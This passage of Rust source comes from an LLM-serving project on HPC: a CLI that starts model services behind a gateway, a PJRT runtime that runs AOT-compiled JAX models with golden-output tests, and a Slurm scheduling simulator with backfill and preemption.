//! chat-hpc serve --models intel-neural-7b,mixtral-8x7b --keepalive-ms 5000
//! chat-hpc serve --models tiny            # the real PJRT model
//! chat-hpc models                          # list known model profiles
//! ```

use std::time::Duration;

use chat_hpc::llmserver::SimProfile;
use chat_hpc::scheduler::ServiceSpec;
use chat_hpc::stack::{ChatAiStack, StackConfig};

fn flag(args: &[String], name: &str) -> Option<String> {
    args.iter()
        .position(|a| a == name)
        .and_then(|i| args.get(i + 1))
        .cloned()
}

fn main() -> anyhow::Result<()> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.first().map(|s| s.as_str()) {
        Some("models") => {
            println!("simulated profiles: {:?}", SimProfile::known_models());
            println!("real PJRT models:   [\"tiny\"] (requires `make artifacts`)");
            Ok(())
        }
        Some("serve") => {
            let models = flag(&args, "--models").unwrap_or_else(|| "intel-neural-7b".into());
            let keepalive_ms: u64 = flag(&args, "--keepalive-ms")
                .and_then(|v| v.parse().ok())
                .unwrap_or(5000);
            let time_scale: f64 = flag(&args, "--time-scale")
                .and_then(|v| v.parse().ok())
                .unwrap_or(1.0);

            let services: Vec<ServiceSpec> = models
                .split(',')
                .map(|m| {
                    if m == "tiny" {
                        ServiceSpec::pjrt_tiny()
                    } else {
                        ServiceSpec::sim(m, time_scale)
                    }
                })
                .collect();
            let names: Vec<String> = services.iter().map(|s| s.name.clone()).collect();

            println!("booting chat-hpc with services {names:?} ...");
            let stack = ChatAiStack::start(StackConfig {
                services,
                keepalive: Duration::from_millis(keepalive_ms),
                load_time_scale: 0.01,
                ..Default::default()
            })?;
            for name in &names {
                stack.wait_ready(name, Duration::from_secs(300))?;
                println!("  {name}: ready");
            }
            println!("gateway:  {}", stack.gateway_url());
            println!("API key:  {}", stack.api_key);
            println!("web app:  {}/chat", stack.gateway_url());
            println!("metrics:  {}/metrics", stack.gateway_url());
            println!("\nexample call:");
            println!(
                "  curl -s {}/v1/m/{}/ -H 'authorization: Bearer {}' \\",
                stack.gateway_url(),
                names[0],
                stack.api_key
            );
            println!(
                "    -d '{{\"messages\":[{{\"role\":\"user\",\"content\":\"count from 1 to 10\"}}]}}'"
            );
            println!("\nserving; Ctrl-C to stop.");
            loop {
                std::thread::sleep(Duration::from_secs(3600));
            }
        }
        _ => {
            eprintln!(
                "usage: chat-hpc <serve|models> [--models a,b] [--keepalive-ms N] [--time-scale F]"
            );
            std::process::exit(2);
        }
    }
}
