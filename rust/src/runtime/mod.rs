//! PJRT runtime: load and execute the AOT-compiled JAX/Pallas model.
//!
//! This is the only place the Rust coordinator touches XLA. `make artifacts`
//! (the build-time Python pass) leaves HLO *text* + a flat weights vector +
//! a manifest under `artifacts/`; this module compiles the HLO once on a
//! CPU PJRT client and serves `prefill` / `decode` calls from the engine hot
//! path. Python is never loaded at runtime.
//!
//! Interchange is HLO text, not serialized protos: jax ≥ 0.5 emits 64-bit
//! instruction ids that xla_extension 0.5.1 rejects; the text parser
//! reassigns ids (see /opt/xla-example/README.md).
//!
//! The `xla` crate needs the xla_extension C++ bundle at build time, so the
//! whole PJRT path is behind the off-by-default `pjrt` cargo feature.
//! Without it, [`ModelRuntime::load`] returns an error and everything else
//! in the stack (SimBackend services, scheduler, proxy, gateway) works
//! unchanged — see DESIGN.md §Substitution-ledger.

use std::path::{Path, PathBuf};
#[cfg(feature = "pjrt")]
use std::sync::Mutex;

#[cfg(feature = "pjrt")]
use anyhow::bail;
use anyhow::{anyhow, Context, Result};

use crate::util::json::Json;

/// Static model geometry from `artifacts/manifest.json`.
#[derive(Debug, Clone)]
pub struct ModelSpec {
    pub name: String,
    pub param_count: usize,
    pub vocab: usize,
    pub d_model: usize,
    pub n_layers: usize,
    pub n_heads: usize,
    pub head_dim: usize,
    pub batch: usize,
    pub prefill_len: usize,
    pub block_size: usize,
    pub n_blocks: usize,
    pub max_blocks: usize,
    pub max_seq: usize,
    pub prefill_hlo: PathBuf,
    pub decode_hlo: PathBuf,
    pub weights: PathBuf,
    pub golden: Option<PathBuf>,
}

impl ModelSpec {
    fn pool_dims(&self) -> [usize; 5] {
        [self.n_layers, self.n_blocks, self.block_size, self.n_heads, self.head_dim]
    }

    fn pool_len(&self) -> usize {
        self.pool_dims().iter().product()
    }
}

/// Parse `manifest.json` and resolve per-model file paths.
pub fn load_manifest(dir: &Path) -> Result<Vec<ModelSpec>> {
    let text = std::fs::read_to_string(dir.join("manifest.json")).with_context(|| {
        format!("read {}/manifest.json — run `make artifacts` first", dir.display())
    })?;
    let j = Json::parse(&text).map_err(|e| anyhow!("manifest: {e}"))?;
    let models = j
        .get("models")
        .and_then(|m| m.as_arr())
        .ok_or_else(|| anyhow!("manifest: no models"))?;
    let mut out = Vec::new();
    for m in models {
        let files = m.get("files").ok_or_else(|| anyhow!("manifest: no files"))?;
        let path = |key: &str| -> Result<PathBuf> {
            Ok(dir.join(
                files
                    .get(key)
                    .and_then(|f| f.as_str())
                    .ok_or_else(|| anyhow!("manifest: missing file {key}"))?,
            ))
        };
        out.push(ModelSpec {
            name: m.str_or("name", "?").to_string(),
            param_count: m.u64_or("param_count", 0) as usize,
            vocab: m.u64_or("vocab", 0) as usize,
            d_model: m.u64_or("d_model", 0) as usize,
            n_layers: m.u64_or("n_layers", 0) as usize,
            n_heads: m.u64_or("n_heads", 0) as usize,
            head_dim: m.u64_or("head_dim", 0) as usize,
            batch: m.u64_or("batch", 0) as usize,
            prefill_len: m.u64_or("prefill_len", 0) as usize,
            block_size: m.u64_or("block_size", 0) as usize,
            n_blocks: m.u64_or("n_blocks", 0) as usize,
            max_blocks: m.u64_or("max_blocks", 0) as usize,
            max_seq: m.u64_or("max_seq", 0) as usize,
            prefill_hlo: path("prefill")?,
            decode_hlo: path("decode")?,
            weights: path("weights")?,
            golden: path("golden").ok(),
        });
    }
    Ok(out)
}

/// Mutable per-model inference state: the paged KV pools.
///
/// Held as host literals between steps (the published `xla` crate cannot
/// split result tuples into reusable device buffers, so pools round-trip
/// through the host — measured in EXPERIMENTS.md §Perf).
#[cfg(feature = "pjrt")]
pub struct KvState {
    k_pools: xla::Literal,
    v_pools: xla::Literal,
}

/// Stub KV state for builds without the `pjrt` feature; never constructed
/// because [`ModelRuntime::load`] fails first.
#[cfg(not(feature = "pjrt"))]
pub struct KvState {
    _private: (),
}

/// A compiled model: PJRT executables + host-resident weights literal.
///
/// Thread-safety: the `xla` crate wrappers are not `Sync`; the engine
/// serializes calls through the inner mutex (one model-runner step at a
/// time — the same discipline as vLLM's model runner).
#[cfg(feature = "pjrt")]
pub struct ModelRuntime {
    pub spec: ModelSpec,
    inner: Mutex<RuntimeInner>,
}

/// Stub runtime for builds without the `pjrt` feature: loading always
/// fails with a clear message, so `BackendKind::Pjrt` services simply never
/// come up while the rest of the stack is unaffected.
#[cfg(not(feature = "pjrt"))]
pub struct ModelRuntime {
    pub spec: ModelSpec,
}

#[cfg(feature = "pjrt")]
struct RuntimeInner {
    _client: xla::PjRtClient,
    prefill_exe: xla::PjRtLoadedExecutable,
    decode_exe: xla::PjRtLoadedExecutable,
    weights: xla::Literal,
}

// SAFETY: all raw PJRT handles are only touched under the Mutex; the CPU
// client itself is thread-safe.
#[cfg(feature = "pjrt")]
unsafe impl Send for RuntimeInner {}
#[cfg(feature = "pjrt")]
unsafe impl Send for KvState {}

/// Result of one prefill/decode execution.
pub struct StepOutput {
    /// Row-major `[batch, vocab]` logits.
    pub logits: Vec<f32>,
}

#[cfg(not(feature = "pjrt"))]
impl ModelRuntime {
    /// Always fails: the crate was built without the `pjrt` feature.
    pub fn load(spec: ModelSpec) -> Result<ModelRuntime> {
        Err(anyhow!(
            "model {} needs PJRT, but chat-hpc was built without the `pjrt` \
             cargo feature (rebuild with `--features pjrt`)",
            spec.name
        ))
    }

    /// Always fails: the crate was built without the `pjrt` feature.
    pub fn load_from_dir(dir: &Path, model: &str) -> Result<ModelRuntime> {
        let _ = dir;
        Err(anyhow!(
            "model {model} needs PJRT, but chat-hpc was built without the \
             `pjrt` cargo feature (rebuild with `--features pjrt`)"
        ))
    }

    pub fn fresh_kv(&self) -> Result<KvState> {
        Err(anyhow!("pjrt feature disabled"))
    }

    pub fn prefill(
        &self,
        _kv: &mut KvState,
        _tokens: &[i32],
        _prompt_lens: &[i32],
        _block_tables: &[i32],
    ) -> Result<StepOutput> {
        Err(anyhow!("pjrt feature disabled"))
    }

    pub fn decode(
        &self,
        _kv: &mut KvState,
        _tokens: &[i32],
        _positions: &[i32],
        _block_tables: &[i32],
    ) -> Result<StepOutput> {
        Err(anyhow!("pjrt feature disabled"))
    }
}

#[cfg(feature = "pjrt")]
impl ModelRuntime {
    /// Compile the model's HLO on a fresh CPU PJRT client and load weights.
    pub fn load(spec: ModelSpec) -> Result<ModelRuntime> {
        let client = xla::PjRtClient::cpu().map_err(wrap)?;
        let prefill_proto =
            xla::HloModuleProto::from_text_file(&spec.prefill_hlo).map_err(wrap)?;
        let decode_proto =
            xla::HloModuleProto::from_text_file(&spec.decode_hlo).map_err(wrap)?;
        let prefill_exe = client
            .compile(&xla::XlaComputation::from_proto(&prefill_proto))
            .map_err(wrap)?;
        let decode_exe = client
            .compile(&xla::XlaComputation::from_proto(&decode_proto))
            .map_err(wrap)?;

        let raw = std::fs::read(&spec.weights)
            .with_context(|| format!("read {}", spec.weights.display()))?;
        if raw.len() != spec.param_count * 4 {
            bail!("weights size mismatch: {} bytes for {} params", raw.len(), spec.param_count);
        }
        let floats: Vec<f32> = raw
            .chunks_exact(4)
            .map(|c| f32::from_le_bytes([c[0], c[1], c[2], c[3]]))
            .collect();
        let weights = xla::Literal::vec1(&floats);

        Ok(ModelRuntime {
            spec,
            inner: Mutex::new(RuntimeInner { _client: client, prefill_exe, decode_exe, weights }),
        })
    }

    /// Load by model name from an artifacts directory.
    pub fn load_from_dir(dir: &Path, model: &str) -> Result<ModelRuntime> {
        let specs = load_manifest(dir)?;
        let spec = specs
            .into_iter()
            .find(|s| s.name == model)
            .ok_or_else(|| anyhow!("model {model} not in manifest"))?;
        ModelRuntime::load(spec)
    }

    /// Zero-initialised KV pools.
    pub fn fresh_kv(&self) -> Result<KvState> {
        let n = self.spec.pool_len();
        let dims: Vec<i64> = self.spec.pool_dims().iter().map(|&d| d as i64).collect();
        let zeros = vec![0f32; n];
        let k = xla::Literal::vec1(&zeros).reshape(&dims).map_err(wrap)?;
        let v = xla::Literal::vec1(&zeros).reshape(&dims).map_err(wrap)?;
        Ok(KvState { k_pools: k, v_pools: v })
    }

    /// Prefill a prompt chunk.
    ///
    /// `tokens`: `[batch * prefill_len]` row-major (padded). `prompt_lens`:
    /// `[batch]`, entries ≥ 1 (inactive rows should point at scratch blocks).
    /// `block_tables`: `[batch * max_blocks]`.
    pub fn prefill(
        &self,
        kv: &mut KvState,
        tokens: &[i32],
        prompt_lens: &[i32],
        block_tables: &[i32],
    ) -> Result<StepOutput> {
        let s = &self.spec;
        if tokens.len() != s.batch * s.prefill_len
            || prompt_lens.len() != s.batch
            || block_tables.len() != s.batch * s.max_blocks
        {
            bail!("prefill: bad input shapes");
        }
        let inner = self.inner.lock().unwrap();
        let tokens_lit = xla::Literal::vec1(tokens)
            .reshape(&[s.batch as i64, s.prefill_len as i64])
            .map_err(wrap)?;
        let lens_lit = xla::Literal::vec1(prompt_lens);
        let bt_lit = xla::Literal::vec1(block_tables)
            .reshape(&[s.batch as i64, s.max_blocks as i64])
            .map_err(wrap)?;
        let args = [&inner.weights, &tokens_lit, &lens_lit, &kv.k_pools, &kv.v_pools, &bt_lit];
        let result = inner.prefill_exe.execute::<&xla::Literal>(&args).map_err(wrap)?;
        self.unpack(kv, result)
    }

    /// One decode step for the whole batch.
    pub fn decode(
        &self,
        kv: &mut KvState,
        tokens: &[i32],
        positions: &[i32],
        block_tables: &[i32],
    ) -> Result<StepOutput> {
        let s = &self.spec;
        if tokens.len() != s.batch
            || positions.len() != s.batch
            || block_tables.len() != s.batch * s.max_blocks
        {
            bail!("decode: bad input shapes");
        }
        let inner = self.inner.lock().unwrap();
        let tokens_lit = xla::Literal::vec1(tokens);
        let pos_lit = xla::Literal::vec1(positions);
        let bt_lit = xla::Literal::vec1(block_tables)
            .reshape(&[s.batch as i64, s.max_blocks as i64])
            .map_err(wrap)?;
        let args = [&inner.weights, &tokens_lit, &pos_lit, &kv.k_pools, &kv.v_pools, &bt_lit];
        let result = inner.decode_exe.execute::<&xla::Literal>(&args).map_err(wrap)?;
        self.unpack(kv, result)
    }

    fn unpack(&self, kv: &mut KvState, result: Vec<Vec<xla::PjRtBuffer>>) -> Result<StepOutput> {
        let buf = result
            .first()
            .and_then(|r| r.first())
            .ok_or_else(|| anyhow!("no output buffer"))?;
        // Lowered with return_tuple=True: a single 3-tuple output.
        let tuple = buf.to_literal_sync().map_err(wrap)?;
        let (logits_lit, k_lit, v_lit) = tuple.to_tuple3().map_err(wrap)?;
        let logits = logits_lit.to_vec::<f32>().map_err(wrap)?;
        if logits.len() != self.spec.batch * self.spec.vocab {
            bail!("logits shape mismatch: {}", logits.len());
        }
        kv.k_pools = k_lit;
        kv.v_pools = v_lit;
        Ok(StepOutput { logits })
    }
}

#[cfg(feature = "pjrt")]
fn wrap(e: xla::Error) -> anyhow::Error {
    anyhow!("xla: {e}")
}

/// Default artifacts directory: `$CHAT_HPC_ARTIFACTS` or the nearest
/// ancestor `artifacts/` containing a manifest.
pub fn artifacts_dir() -> PathBuf {
    std::env::var("CHAT_HPC_ARTIFACTS").map(PathBuf::from).unwrap_or_else(|_| {
        let mut d = std::env::current_dir().unwrap_or_else(|_| PathBuf::from("."));
        loop {
            let candidate = d.join("artifacts");
            if candidate.join("manifest.json").exists() {
                return candidate;
            }
            if !d.pop() {
                return PathBuf::from("artifacts");
            }
        }
    })
}

// These tests execute real HLO through PJRT and need both the `pjrt`
// feature and `make artifacts` output; without the feature they are
// compiled out (quarantine note: they were red on any box lacking the
// xla_extension bundle + artifacts — DESIGN.md §Substitution-ledger).
#[cfg(all(test, feature = "pjrt"))]
mod tests {
    use super::*;

    fn runtime() -> ModelRuntime {
        ModelRuntime::load_from_dir(&artifacts_dir(), "tiny")
            .expect("artifacts missing — run `make artifacts`")
    }

    /// Deterministic block tables matching python/compile/aot.py make_golden.
    fn golden_block_tables(spec: &ModelSpec) -> Vec<i32> {
        let mut bt = vec![0i32; spec.batch * spec.max_blocks];
        let mut next = 1;
        for b in 0..spec.batch {
            for j in 0..spec.max_blocks {
                bt[b * spec.max_blocks + j] = next;
                next += 1;
            }
        }
        bt
    }

    #[test]
    fn manifest_loads() {
        let specs = load_manifest(&artifacts_dir()).unwrap();
        let tiny = specs.iter().find(|s| s.name == "tiny").unwrap();
        assert!(tiny.param_count > 100_000);
        assert_eq!(tiny.max_seq, tiny.block_size * tiny.max_blocks);
    }

    #[test]
    fn prefill_and_decode_match_jax_golden() {
        // The cross-language anchor: PJRT execution from Rust must
        // reproduce the logits JAX computed at AOT time.
        let rt = runtime();
        let golden_path = rt.spec.golden.clone().expect("golden file in manifest");
        let golden = Json::parse(&std::fs::read_to_string(golden_path).unwrap()).unwrap();
        let spec = rt.spec.clone();

        let prompts = golden.get("prompts").unwrap().as_arr().unwrap();
        let mut tokens = vec![0i32; spec.batch * spec.prefill_len];
        let mut lens = vec![0i32; spec.batch];
        for (b, p) in prompts.iter().enumerate() {
            let p = p.as_arr().unwrap();
            for (i, t) in p.iter().enumerate() {
                tokens[b * spec.prefill_len + i] = t.as_i64().unwrap() as i32;
            }
            lens[b] = p.len() as i32;
        }
        let bt_json = golden.get("block_tables").unwrap().as_arr().unwrap();
        let mut bt = Vec::new();
        for row in bt_json {
            for v in row.as_arr().unwrap() {
                bt.push(v.as_i64().unwrap() as i32);
            }
        }
        assert_eq!(bt, golden_block_tables(&spec));

        let mut kv = rt.fresh_kv().unwrap();
        let out = rt.prefill(&mut kv, &tokens, &lens, &bt).unwrap();

        let steps = golden.get("steps").unwrap().as_arr().unwrap();
        let check = |logits: &[f32], step: &Json| {
            let want = step.get("logits8").unwrap().as_arr().unwrap();
            for (b, row) in want.iter().enumerate() {
                for (i, w) in row.as_arr().unwrap().iter().enumerate() {
                    let got = logits[b * spec.vocab + i];
                    let want = w.as_f64().unwrap() as f32;
                    assert!(
                        (got - want).abs() < 2e-3 + want.abs() * 2e-3,
                        "logits[{b},{i}]: got {got}, want {want}"
                    );
                }
            }
        };
        check(&out.logits, &steps[0]);

        let mut logits = out.logits;
        for step in &steps[1..] {
            let fed: Vec<i32> = step
                .get("fed_tokens")
                .unwrap()
                .as_arr()
                .unwrap()
                .iter()
                .map(|v| v.as_i64().unwrap() as i32)
                .collect();
            let pos: Vec<i32> = step
                .get("positions")
                .unwrap()
                .as_arr()
                .unwrap()
                .iter()
                .map(|v| v.as_i64().unwrap() as i32)
                .collect();
            // Greedy argmax over the previous logits must equal the fed
            // token (same decode rule as make_golden).
            for b in 0..spec.batch {
                let row = &logits[b * spec.vocab..(b + 1) * spec.vocab];
                let argmax = row
                    .iter()
                    .enumerate()
                    .max_by(|a, b| a.1.partial_cmp(b.1).unwrap())
                    .unwrap()
                    .0 as i32;
                assert_eq!(argmax, fed[b], "greedy token diverged at row {b}");
            }
            let out = rt.decode(&mut kv, &fed, &pos, &bt).unwrap();
            check(&out.logits, step);
            logits = out.logits;
        }
    }

    #[test]
    fn decode_is_deterministic() {
        let rt = runtime();
        let spec = rt.spec.clone();
        let bt = golden_block_tables(&spec);
        let mut tokens = vec![0i32; spec.batch * spec.prefill_len];
        for (i, t) in tokens.iter_mut().enumerate() {
            *t = (i % 50) as i32 + 1;
        }
        let lens = vec![4i32; spec.batch];

        let run = || {
            let mut kv = rt.fresh_kv().unwrap();
            let _ = rt.prefill(&mut kv, &tokens, &lens, &bt).unwrap();
            let out = rt
                .decode(&mut kv, &vec![9i32; spec.batch], &vec![4i32; spec.batch], &bt)
                .unwrap();
            out.logits
        };
        assert_eq!(run(), run());
    }

    #[test]
    fn bad_shapes_rejected() {
        let rt = runtime();
        let mut kv = rt.fresh_kv().unwrap();
        assert!(rt.decode(&mut kv, &[1], &[0], &[0]).is_err());
        assert!(rt.prefill(&mut kv, &[1, 2], &[1], &[0]).is_err());
    }
}
