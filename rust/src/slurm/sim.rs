//! Core event-driven Slurm simulation.
//!
//! All methods take explicit `now_us` timestamps so the same code runs under
//! a `SimClock` (months in milliseconds, for the adoption/ablation sims) and
//! a `WallClock` (the live serving stack). `tick` is idempotent for a fixed
//! time: completions are processed before scheduling, and scheduling is a
//! priority pass with conservative backfill.

use std::collections::BTreeMap;

use super::{
    AccountUsage, ClusterSpec, JobId, JobInfo, JobSpec, JobState, NodeInfo, PendReason,
};

#[derive(Debug, Clone)]
struct Node {
    hostname: String,
    up: bool,
    gpus: u32,
    cpus: u32,
    mem_gb: u32,
    gpus_alloc: u32,
    cpus_alloc: u32,
    mem_gb_alloc: u32,
    running: Vec<JobId>,
}

impl Node {
    fn fits(&self, spec: &JobSpec) -> bool {
        self.up
            && self.gpus - self.gpus_alloc >= spec.gpus_per_node
            && self.cpus - self.cpus_alloc >= spec.cpus_per_node
            && self.mem_gb - self.mem_gb_alloc >= spec.mem_gb_per_node
    }

    fn alloc(&mut self, spec: &JobSpec, id: JobId) {
        self.gpus_alloc += spec.gpus_per_node;
        self.cpus_alloc += spec.cpus_per_node;
        self.mem_gb_alloc += spec.mem_gb_per_node;
        self.running.push(id);
    }

    fn release(&mut self, spec: &JobSpec, id: JobId) {
        self.gpus_alloc -= spec.gpus_per_node;
        self.cpus_alloc -= spec.cpus_per_node;
        self.mem_gb_alloc -= spec.mem_gb_per_node;
        self.running.retain(|&j| j != id);
    }
}

#[derive(Debug, Clone)]
struct Job {
    spec: JobSpec,
    state: JobState,
    reason: PendReason,
    node_idx: Vec<usize>,
    submit_us: u64,
    start_us: Option<u64>,
    end_us: Option<u64>,
    /// Set when the job received a preemption notice: it will be killed
    /// with `JobState::Preempted` at this time unless it exits first.
    preempt_at_us: Option<u64>,
}

impl Job {
    /// End by self-completion or walltime kill, ignoring preemption.
    fn natural_end_us(&self) -> u64 {
        let start = self.start_us.unwrap_or(0);
        let walltime = self.spec.time_limit.as_micros() as u64;
        match self.spec.duration {
            Some(d) => start + (d.as_micros() as u64).min(walltime),
            None => start + walltime,
        }
    }

    /// Projected end for a running job (self-completion, walltime kill, or
    /// the preemption-grace kill, whichever comes first).
    fn projected_end_us(&self) -> u64 {
        let natural = self.natural_end_us();
        match self.preempt_at_us {
            Some(p) => natural.min(p),
            None => natural,
        }
    }
}

/// State-change event emitted by `tick` (consumed by tests, the analytics
/// pipeline and the service scheduler's failure-recovery logic).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum JobUpdate {
    Started { id: JobId, nodes: Vec<String> },
    Finished { id: JobId, state: JobState },
    /// Preemption *notice*: a higher-priority job blocked on resources has
    /// claimed this preemptible job's allocation. The job keeps running
    /// until `kill_at_us` (the grace window, Slurm's `GraceTime`) and is
    /// then finished with `JobState::Preempted` — unless it exits or is
    /// scancelled first. The service scheduler uses the window to drain
    /// the replica instead of dying mid-request.
    Preempted { id: JobId, kill_at_us: u64 },
}

/// Schedule-gap report: what a scavenger-replica scheduler needs to know
/// before it opportunistically claims idle GPUs (the paper's "gaps in the
/// schedule created by Slurm", §1).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct GapReport {
    /// Free GPUs on up nodes right now.
    pub free_gpus: u32,
    /// Pending jobs currently blocked on resources — the batch demand a
    /// scavenger must not delay.
    pub pending_blocked: u32,
    /// Width of the backfill window: microseconds until the earliest
    /// feasible start of the highest-priority blocked job (its shadow).
    /// `u64::MAX` when nothing is blocked — the gap is unbounded. A
    /// scavenger job fits the gap iff its walltime is below this.
    pub gap_us: u64,
}

/// The simulated cluster.
pub struct SlurmSim {
    spec: ClusterSpec,
    nodes: Vec<Node>,
    jobs: BTreeMap<JobId, Job>,
    next_id: JobId,
    events: Vec<JobUpdate>,
    accounts: BTreeMap<String, AccountUsage>,
    /// Grace window between a preemption notice and the kill (GraceTime).
    preempt_grace: std::time::Duration,
}

impl SlurmSim {
    pub fn new(spec: ClusterSpec) -> SlurmSim {
        let nodes = (0..spec.nodes)
            .map(|i| Node {
                hostname: format!("{}{:02}", spec.prefix, i + 1),
                up: true,
                gpus: spec.gpus_per_node,
                cpus: spec.cpus_per_node,
                mem_gb: spec.mem_gb_per_node,
                gpus_alloc: 0,
                cpus_alloc: 0,
                mem_gb_alloc: 0,
                running: Vec::new(),
            })
            .collect();
        SlurmSim {
            spec,
            nodes,
            jobs: BTreeMap::new(),
            next_id: 1000,
            events: Vec::new(),
            accounts: BTreeMap::new(),
            preempt_grace: std::time::Duration::from_secs(30),
        }
    }

    /// Configure the preemption grace window (Slurm's `GraceTime`).
    pub fn set_preempt_grace(&mut self, grace: std::time::Duration) {
        self.preempt_grace = grace;
    }

    pub fn cluster_spec(&self) -> &ClusterSpec {
        &self.spec
    }

    /// Submit a job (sbatch). It stays PENDING until the next `tick`.
    pub fn sbatch(&mut self, spec: JobSpec, now_us: u64) -> JobId {
        let id = self.next_id;
        self.next_id += 1;
        self.accounts.entry(spec.account.clone()).or_default().jobs_submitted += 1;
        self.jobs.insert(
            id,
            Job {
                spec,
                state: JobState::Pending,
                reason: PendReason::None,
                node_idx: Vec::new(),
                submit_us: now_us,
                start_us: None,
                end_us: None,
                preempt_at_us: None,
            },
        );
        id
    }

    /// Cancel a job (scancel). Running jobs release resources immediately.
    pub fn scancel(&mut self, id: JobId, now_us: u64) -> bool {
        let Some(job) = self.jobs.get(&id) else { return false };
        if job.state.is_terminal() {
            return false;
        }
        self.finish(id, JobState::Cancelled, now_us);
        true
    }

    /// squeue: all non-terminal jobs plus terminal ones (sacct-style, the
    /// caller filters).
    pub fn squeue(&self) -> Vec<JobInfo> {
        self.jobs.iter().map(|(&id, j)| self.job_info(id, j)).collect()
    }

    pub fn job(&self, id: JobId) -> Option<JobInfo> {
        self.jobs.get(&id).map(|j| self.job_info(id, j))
    }

    fn job_info(&self, id: JobId, j: &Job) -> JobInfo {
        JobInfo {
            id,
            name: j.spec.name.clone(),
            account: j.spec.account.clone(),
            state: j.state,
            reason: j.reason,
            nodes: j.node_idx.iter().map(|&i| self.nodes[i].hostname.clone()).collect(),
            submit_us: j.submit_us,
            start_us: j.start_us,
            end_us: j.end_us,
            priority: j.spec.priority,
            gpus_per_node: j.spec.gpus_per_node,
            time_limit: j.spec.time_limit,
            comment: j.spec.comment.clone(),
        }
    }

    /// sinfo: per-node allocation state.
    pub fn sinfo(&self) -> Vec<NodeInfo> {
        self.nodes
            .iter()
            .map(|n| NodeInfo {
                hostname: n.hostname.clone(),
                up: n.up,
                gpus: n.gpus,
                gpus_alloc: n.gpus_alloc,
                cpus: n.cpus,
                cpus_alloc: n.cpus_alloc,
                mem_gb: n.mem_gb,
                mem_gb_alloc: n.mem_gb_alloc,
                running_jobs: n.running.clone(),
            })
            .collect()
    }

    /// sreport-style accounting.
    pub fn account_usage(&self, account: &str) -> AccountUsage {
        self.accounts.get(account).cloned().unwrap_or_default()
    }

    /// Mark a node DOWN; running jobs on it die with NODE_FAIL (§7.1.1).
    pub fn fail_node(&mut self, hostname: &str, now_us: u64) -> bool {
        let Some(idx) = self.nodes.iter().position(|n| n.hostname == hostname) else {
            return false;
        };
        self.nodes[idx].up = false;
        let victims: Vec<JobId> = self.nodes[idx].running.clone();
        for id in victims {
            self.finish(id, JobState::NodeFail, now_us);
        }
        true
    }

    /// Bring a DOWN node back (admin intervention per §7.1.1).
    pub fn restore_node(&mut self, hostname: &str) -> bool {
        match self.nodes.iter_mut().find(|n| n.hostname == hostname) {
            Some(n) => {
                n.up = true;
                true
            }
            None => false,
        }
    }

    /// Drain state-change events accumulated since the last call.
    pub fn drain_events(&mut self) -> Vec<JobUpdate> {
        std::mem::take(&mut self.events)
    }

    /// Advance the cluster to `now_us`: complete/timeout running jobs, then
    /// run the scheduling pass (priority order + conservative backfill).
    pub fn tick(&mut self, now_us: u64) {
        // Phase 1: completions (self-completion, walltime kill, or the
        // preemption-grace kill — whichever bound projected the end).
        let done: Vec<(JobId, JobState)> = self
            .jobs
            .iter()
            .filter(|(_, j)| j.state == JobState::Running)
            .filter(|(_, j)| j.projected_end_us() <= now_us)
            .map(|(&id, j)| {
                let state = match j.preempt_at_us {
                    Some(p) if p < j.natural_end_us() => JobState::Preempted,
                    _ if j.spec.duration.is_some() => JobState::Completed,
                    _ => JobState::Timeout,
                };
                (id, state)
            })
            .collect();
        for (id, state) in done {
            // Use projected end as the actual end time for accounting.
            let end = self.jobs[&id].projected_end_us().min(now_us);
            self.finish_at(id, state, end);
        }

        // Phase 2: scheduling.
        self.schedule(now_us);
    }

    fn schedule(&mut self, now_us: u64) {
        // Pending jobs in (priority desc, id asc) order — Slurm's multifactor
        // reduced to the explicit priority plus FIFO age.
        let mut pending: Vec<JobId> = self
            .jobs
            .iter()
            .filter(|(_, j)| j.state == JobState::Pending)
            .map(|(&id, _)| id)
            .collect();
        pending.sort_by_key(|id| {
            let j = &self.jobs[id];
            (-j.spec.priority, *id)
        });

        // Conservative backfill: once the highest-priority job cannot start,
        // compute its shadow start time; later jobs may only start if they
        // are guaranteed to finish before it (time-based check).
        let mut shadow_start: Option<u64> = None;
        for id in pending {
            let spec = self.jobs[&id].spec.clone();
            let placement = self.find_placement(&spec);
            match placement {
                Some(nodes) if shadow_start.is_none() => {
                    self.start(id, nodes, now_us);
                }
                Some(nodes) => {
                    // Backfill window check.
                    let projected_end = now_us + spec.time_limit.as_micros() as u64;
                    if projected_end <= shadow_start.unwrap() {
                        self.start(id, nodes, now_us);
                    } else {
                        self.jobs.get_mut(&id).unwrap().reason = PendReason::Priority;
                    }
                }
                None if shadow_start.is_none() => {
                    // Head blocked job. If it would otherwise wait past the
                    // preemption-grace window and strictly lower-priority
                    // preemptible jobs hold the space it needs, serve them
                    // notices (they die at the grace deadline; the shadow
                    // then shrinks to that deadline).
                    let grace_end = now_us + self.preempt_grace.as_micros() as u64;
                    let mut earliest = self.earliest_start(&spec, now_us);
                    if earliest > grace_end {
                        let mut noticed = false;
                        for victim in self.preemption_victims(&spec) {
                            let job = self.jobs.get_mut(&victim).unwrap();
                            if job.preempt_at_us.is_none() {
                                job.preempt_at_us = Some(grace_end);
                                self.events.push(JobUpdate::Preempted {
                                    id: victim,
                                    kill_at_us: grace_end,
                                });
                                noticed = true;
                            }
                        }
                        if noticed {
                            // Fresh notices shrink the shadow.
                            earliest = self.earliest_start(&spec, now_us);
                        }
                    }
                    shadow_start = Some(earliest);
                    self.jobs.get_mut(&id).unwrap().reason = PendReason::Resources;
                }
                None => {
                    self.jobs.get_mut(&id).unwrap().reason = PendReason::Resources;
                }
            }
        }
    }

    /// Distinct up-nodes that can host the job right now (first-fit).
    fn find_placement(&self, spec: &JobSpec) -> Option<Vec<usize>> {
        let mut chosen = Vec::new();
        for (i, n) in self.nodes.iter().enumerate() {
            if n.fits(spec) {
                chosen.push(i);
                if chosen.len() == spec.nodes as usize {
                    return Some(chosen);
                }
            }
        }
        None
    }

    /// Earliest time `spec` could start assuming running jobs end at their
    /// projected ends and nothing else arrives (the backfill shadow).
    fn earliest_start(&self, spec: &JobSpec, now_us: u64) -> u64 {
        // Sort running jobs by projected end; release them one by one on a
        // scratch copy of node state until the job fits.
        let mut scratch: Vec<Node> = self.nodes.clone();
        let fits = |nodes: &[Node]| {
            nodes.iter().filter(|n| n.fits(spec)).count() >= spec.nodes as usize
        };
        if fits(&scratch) {
            return now_us;
        }
        let mut running: Vec<(JobId, &Job)> = self
            .jobs
            .iter()
            .filter(|(_, j)| j.state == JobState::Running)
            .map(|(&id, j)| (id, j))
            .collect();
